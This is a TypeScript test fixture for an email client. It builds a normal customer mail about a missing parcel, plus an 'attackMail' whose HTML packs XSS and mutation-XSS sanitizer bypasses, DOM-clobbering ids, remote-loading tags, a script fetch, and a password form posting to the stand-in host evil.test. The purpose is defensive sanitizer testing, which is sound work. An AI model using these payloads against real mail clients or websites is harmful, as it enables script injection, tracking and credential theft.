import { rawMail } from "../../sync-server/channels/email/testing/mails.ts";

/** One green dot. */
const png =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** Where its picture from the web stands. */
export const WEB_PICTURE = "https://pictures.test/banner.png";

const words = `Hello,

my parcel 88213 has not arrived yet. Could you look where it is?

Maya

On Sat, 21 Nov 2026 at 10:12, Northwind Care <care@northwind.test> wrote:
> Thank you for your order.
> It leaves our warehouse today.
>
> Your Northwind team`;

const html = `<!doctype html><html><head><style>
  .box { background: #f3ead9; border-radius: 8px; padding: 12px }
  body { background: #fff; min-height: 100vh }
  .wide { width: 640px }
</style></head><body bgcolor="#ffffff">
<table class="wide" width="640"><tr><td class="box">
<p>Hello,</p><p>my parcel <b>88213</b> has <i>not</i> arrived yet. <a href="https://parcels.test/88213">Where is it</a>?</p>
<p><img alt="Parcel" src="cid:parcel@maya" width="60" height="40"> <img alt="Banner" src="${WEB_PICTURE}" width="120" height="40"></p>
<p>Maya</p><div style="height: 100vh"></div>
<div class="gmail_quote"><div>On Sat, 21 Nov 2026 at 10:12, Northwind Care wrote:</div><blockquote>Thank you for your order.</blockquote></div>
</td></tr></table></body></html>`;

function part(fields: readonly string[], body: string): string {
  return ["--outer", ...fields, "", body].join("\n");
}

const head = {
  To: "Northwind Care <care@northwind.test>",
  Cc: "Ben Adler <ben@example.test>, lea@example.test",
  "Content-Type": 'multipart/mixed; boundary="outer"',
};

/** With HTML, a picture in it, one of the web, a file, a quotation and two who get a copy. */
export function storyMail(fields: Record<string, string | null> = {}): Buffer {
  const both = `--both
Content-Type: text/plain; charset=utf-8

${words}
--both
Content-Type: text/html; charset=utf-8

${html}
--both--`;
  return rawMail(
    { ...head, Subject: "Re: Order 88213", ...fields },
    [
      part(['Content-Type: multipart/alternative; boundary="both"'], both),
      part(
        [
          'Content-Type: image/png; name="parcel.png"',
          'Content-Disposition: inline; filename="parcel.png"',
          "Content-ID: <parcel@maya>",
          "Content-Transfer-Encoding: base64",
        ],
        png,
      ),
      part(
        [
          'Content-Type: application/pdf; name="invoice.pdf"',
          'Content-Disposition: attachment; filename="invoice.pdf"',
          "Content-Transfer-Encoding: base64",
        ],
        "JVBERi0xLjQK",
      ),
      part(
        [
          'Content-Type: image/png; name="damage.png"',
          'Content-Disposition: attachment; filename="damage.png"',
          "Content-Transfer-Encoding: base64",
        ],
        png,
      ),
      "--outer--",
    ].join("\n"),
  );
}

/** Everything in it would call the sender's server, or run, if it could. */
export const ATTACK_HOST = "evil.test";

const attacks = `<base href="https://${ATTACK_HOST}/base/">
<meta http-equiv="refresh" content="0;url=https://${ATTACK_HOST}/refresh">
<link rel="stylesheet" href="https://${ATTACK_HOST}/link.css"><link rel="preconnect" href="https://${ATTACK_HOST}">
<style>@import "https://${ATTACK_HOST}/import.css"; @font-face { font-family: x; src: url(https://${ATTACK_HOST}/font) }
body { background: url("https://${ATTACK_HOST}/ground.png"); font-family: x }
p { background-image: u\\72l(https://${ATTACK_HOST}/escaped.png); list-style: image-set("https://${ATTACK_HOST}/set.png" 1x) }
</style>
<script>top.hacked = 1; fetch("https://${ATTACK_HOST}/script")</script>
<p onclick="top.hacked = 1" style="background: url(https://${ATTACK_HOST}/style.png)">The words of the mail</p>
<img src="https://${ATTACK_HOST}/pixel.png" onerror="top.hacked = 1"><img src="x" onerror="top.hacked = 1">
<img srcset="https://${ATTACK_HOST}/srcset.png 1x"><table background="https://${ATTACK_HOST}/table.png"><tr><td>cell</td></tr></table>
<a href="javascript:top.hacked=1">a script</a> <a href="//${ATTACK_HOST}/slashes">slashes</a> <a href="/api/auth/sign-out">inside</a>
<a href="data:text/html,<script>top.hacked=1</script>">data</a>
<form action="https://${ATTACK_HOST}/form"><input name="password" autofocus><button>Sign in</button></form>
<iframe src="https://${ATTACK_HOST}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
<object data="https://${ATTACK_HOST}/object"></object><embed src="https://${ATTACK_HOST}/embed">
<video src="https://${ATTACK_HOST}/video" poster="https://${ATTACK_HOST}/poster" autoplay></video><audio src="https://${ATTACK_HOST}/audio" autoplay></audio>
<svg><script>top.hacked = 1</script><image href="https://${ATTACK_HOST}/svg.png"/><animate onbegin="top.hacked=1" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hacked=1&gt;"></mglyph></table></mtext></math>
<svg></p><style><a id="</style><img src=1 onerror=top.hacked=1>"></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.hacked=1></style></mglyph></form></mtext></math>
<img name="body"><img id="adoptedStyleSheets"><a id="defaultView" href="https://parcels.test/">the only way out</a>
<noscript><p title="</noscript><img src=x onerror=top.hacked=1>"></noscript>`;

/** Means ill in every way that a mail's HTML can. */
export function attackMail(fields: Record<string, string | null> = {}): Buffer {
  return rawMail(
    {
      "Message-ID": "<attack@mail.maya.test>",
      Subject: "Your account",
      "Content-Type": "text/html; charset=utf-8",
      ...fields,
    },
    `<html><body onload="top.hacked = 1">${attacks}</body></html>`,
  );
}
